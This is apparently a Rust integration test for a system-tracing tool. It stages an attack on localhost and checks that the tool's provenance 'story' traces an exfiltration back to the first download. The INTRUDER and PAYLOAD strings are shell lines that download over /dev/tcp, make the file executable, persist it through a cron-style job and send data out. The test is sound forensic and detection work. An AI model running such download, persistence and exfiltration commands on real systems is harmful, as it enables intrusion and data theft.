//! A staged attack on this host, and whether the story of its last step names its first.

use std::io::{Read as _, Write as _};
use std::net::TcpListener;
use std::process::{Command, Stdio};
use std::time::Duration;

use libtest_mimic::Failed;
use serde_json::Value;

use crate::Test;
use crate::host::{TRACER, ensure, path, same, scratch, tracer_ok, wait_for};

pub const TESTS: &[Test] = &[("the_story_of_an_attack_s_last_step_names_its_first", attack)];

/// Waits for a line in a folder, as cron does, and runs it.
const SCHEDULER: &str = r#"
cd "$1"; while [ ! -s cron.d/job ]; do sleep 0.05; done
read -r line <cron.d/job
bash -c "$line"
"#;

/// Downloads, drops, makes executable, persists.
const INTRUDER: &str = r#"
cd "$1"; exec 3<>/dev/tcp/127.0.0.1/"$2"
head -c 10000 <&3 >dropped
chmod +x dropped
mv dropped payload
echo "$1/payload $3" >cron.d/new; mv cron.d/new cron.d/job
"#;

/// What is downloaded: it sends something away.
const PAYLOAD: &str = "#!/bin/bash\nexec 4<>/dev/tcp/127.0.0.1/$1\necho exfiltrated >&4\n";

fn attack() -> Result<(), Failed> {
    let dir = scratch()?;
    let folder = path(&std::fs::canonicalize(dir.path())?)?.to_owned();
    let file = dir.path().join("c.trz");
    std::fs::create_dir(dir.path().join("cron.d"))?;
    let (source, drain) = (TcpListener::bind("127.0.0.1:0")?, TcpListener::bind("127.0.0.1:0")?);
    let (from, to) = (source.local_addr()?.port().to_string(), drain.local_addr()?.port().to_string());
    let mut recorder = Command::new(TRACER).args(["record", "-o", path(&file)?]).spawn()?;
    wait_for(&file)?;
    std::thread::sleep(Duration::from_millis(300));
    let shell = |script: &str, arguments: &[&str]| {
        let mut command = Command::new("bash");
        command.args(["-c", script, "bash"]).args(arguments).stdin(Stdio::null()).stdout(Stdio::null());
        command
    };
    let mut scheduler = shell(SCHEDULER, &[&folder]).spawn()?;
    let noise = |count: &str| -> Result<(), Failed> {
        let copied = Command::new("dd")
            .args(["if=/dev/zero", "of=/dev/null", "bs=1", &format!("count={count}"), "status=none"])
            .status()?;
        ensure(copied.success(), || "dd failed".to_owned())
    };
    noise("15000")?;
    let serving = std::thread::spawn(move || -> std::io::Result<()> {
        let (mut client, _) = source.accept()?;
        client.write_all(PAYLOAD.as_bytes())
    });
    let intruded = shell(INTRUDER, &[&folder, &from, &to]).status()?;
    ensure(intruded.success(), || "the download failed".to_owned())?;
    serving.join().map_err(|_| "the server ended early")??;
    let mut sent = String::new();
    drain.accept()?.0.read_to_string(&mut sent)?;
    same("what was sent away", sent.trim(), "exfiltrated")?;
    noise("15000")?;
    same("exit code of the scheduler", scheduler.wait()?.code(), Some(0))?;
    rustix::process::kill_process(
        rustix::process::Pid::from_child(&recorder),
        rustix::process::Signal::TERM,
    )?;
    same("exit code of the recorder", recorder.wait()?.code(), Some(0))?;

    let of = format!("peer=127.0.0.1:{to}");
    let text = tracer_ok(&["story", path(&file)?, "--of", &of, "--back", "-o", "json"])?;
    let story: Vec<Value> = text.lines().map(serde_json::from_str).collect::<Result<_, _>>()?;
    let told =
        |wanted: &str| story.iter().any(|it| it["name"].as_str().is_some_and(|name| name.contains(wanted)));
    for wanted in
        [&*format!("127.0.0.1:{from}"), "/payload", "/dropped", "/cron.d/job", "/cron.d/new", "head"]
    {
        ensure(told(wanted), || format!("no {wanted} in the story:\n{text}"))?;
    }
    // The copying beside it is a hundred thousand events and more.
    let all = tracer_ok(&["replay", path(&file)?, "--count", "-f", "comm=dd"])?;
    ensure(all.trim().parse::<u64>()? > 60_000, || format!("{all} events beside it"))?;
    let beside: u64 = story
        .iter()
        .filter(|it| it["name"] == "dd")
        .flat_map(|it| it["edges"].as_array().cloned().unwrap_or_default())
        .filter_map(|edge| edge["events"].as_u64())
        .sum();
    ensure(beside < 20, || format!("{beside} events of dd in the story:\n{text}"))?;
    let spread = tracer_ok(&[
        "story",
        path(&file)?,
        "--of",
        &format!("path={folder}/dropped"),
        "--forward",
        "-o",
        "json",
    ])?;
    ensure(spread.contains(&format!("127.0.0.1:{to}")), || {
        format!("the effect is not in the story:\n{spread}")
    })
}
